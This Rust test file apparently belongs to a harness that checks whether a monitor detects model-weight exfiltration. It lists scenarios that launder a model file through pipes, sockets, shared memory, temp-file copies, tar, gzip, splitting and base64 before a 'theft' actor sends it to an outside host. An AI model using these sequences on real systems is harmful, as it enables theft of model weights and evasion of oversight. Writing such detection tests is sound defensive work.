//! One process reads and another sends: through pipes, unix sockets and files.

use super::{Outcome, outside, theft};
use tests::board::{MODEL, Played, Scenario, Stage};

pub const SCENARIOS: &[Scenario] = &[
    Scenario { name: "pipe", about: "pipe", play: |stage| theft(stage, &["pipe"]) },
    Scenario { name: "fifo", about: "named pipe", play: |stage| theft(stage, &["fifo", "--place", "/tmp/f"]) },
    Scenario {
        name: "unix_stream",
        about: "unix stream socket",
        play: |stage| theft(stage, &["unix-stream", "--place", "/tmp/s"]),
    },
    Scenario {
        name: "unix_socketpair",
        about: "unix socket pair, inherited",
        play: |stage| theft(stage, &["socketpair"]),
    },
    Scenario {
        name: "unix_datagram",
        about: "unix datagrams",
        play: |stage| theft(stage, &["unix-datagram", "--place", "/tmp/d"]),
    },
    Scenario {
        name: "copy_in_tmp",
        about: "copy in /tmp",
        play: |stage| theft(stage, &["file", "--place", "/tmp/.cache"]),
    },
    Scenario {
        name: "copy_in_shm",
        about: "copy in /dev/shm",
        play: |stage| theft(stage, &["file", "--place", "/dev/shm/psm_1"]),
    },
    Scenario { name: "memfd", about: "memfd, inherited", play: |stage| theft(stage, &["memfd"]) },
    Scenario {
        name: "mapped_file",
        about: "a file that both map",
        play: |stage| theft(stage, &["map", "--place", "/tmp/map"]),
    },
    Scenario { name: "shared_memory", about: "memory that both have", play: |stage| theft(stage, &["shared-memory"]) },
    Scenario { name: "cp_then_send", about: "cp, then another process", play: cp },
    Scenario { name: "copied_renamed_linked", about: "cp, mv, ln, then another", play: cp_mv_ln },
    Scenario { name: "tar_in_a_pipe", about: "tar | send", play: tar },
    Scenario { name: "tar_gzip_file", about: "tar | gzip > file, send", play: gzip },
    Scenario { name: "split_files", about: "split into 1 MiB files", play: split },
    Scenario { name: "base64", about: "base64 | send", play: base64 },
];

/// `program` reads the model, as itself: the words that make the actor become it.
fn reader(program: &str) -> String {
    format!("$A become --role reader --file {MODEL} --truth 3 -- {program}")
}

/// A script in which the actor `$A` is sender at the end; what it sends is not the file itself.
fn script(stage: &mut Stage, script: &str) -> Outcome {
    let world = stage.world(&[])?;
    let lines = stage.script(&format!("exec 3>&1; {}", script.replace("TO", &format!("--to {}", outside()))))?;
    Ok(Played::Attack(stage.truth_of(&lines, None, world, false)?))
}

fn cp(stage: &mut Stage) -> Outcome {
    let cp = reader(&format!("cp {MODEL} /tmp/a"));
    script(stage, &format!("{cp}; $A theft stdin TO < /tmp/a"))
}

fn cp_mv_ln(stage: &mut Stage) -> Outcome {
    let cp = reader(&format!("cp {MODEL} /tmp/a"));
    script(stage, &format!("{cp}; mv /tmp/a /tmp/b; ln /tmp/b /tmp/c; rm /tmp/b; $A theft stdin TO < /tmp/c"))
}

fn tar(stage: &mut Stage) -> Outcome {
    let tar = reader("tar -C /models -cf - llama/model.safetensors");
    script(stage, &format!("{tar} | $A theft stdin TO"))
}

fn gzip(stage: &mut Stage) -> Outcome {
    let tar = reader("tar -C /models -cf - llama/model.safetensors");
    script(stage, &format!("{tar} | gzip -1 > /tmp/logs.gz; $A theft stdin TO < /tmp/logs.gz"))
}

fn split(stage: &mut Stage) -> Outcome {
    let split = reader(&format!("split -b 1048576 {MODEL} /tmp/part-"));
    script(stage, &format!("{split}; for part in /tmp/part-*; do $A theft stdin TO < $part; done"))
}

fn base64(stage: &mut Stage) -> Outcome {
    let base64 = reader(&format!("base64 -w 0 {MODEL}"));
    script(stage, &format!("{base64} | $A theft stdin TO"))
}
